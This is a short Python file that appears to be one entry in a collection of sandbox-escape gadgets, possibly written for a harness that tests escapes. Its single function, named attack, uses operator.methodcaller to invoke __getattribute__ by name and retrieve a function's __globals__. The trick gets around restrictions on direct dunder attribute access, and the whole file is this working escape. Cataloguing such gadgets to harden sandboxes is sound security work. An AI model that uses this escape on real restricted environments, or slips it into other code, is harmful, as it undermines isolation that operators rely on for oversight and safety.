"""Class: module gadget. Source: own find. Escape: methodcaller calls a special method by name."""

import operator


def helper():
    pass


def attack(model, tokenizer, address):
    return operator.methodcaller("__getattribute__", "__globals__")(helper)
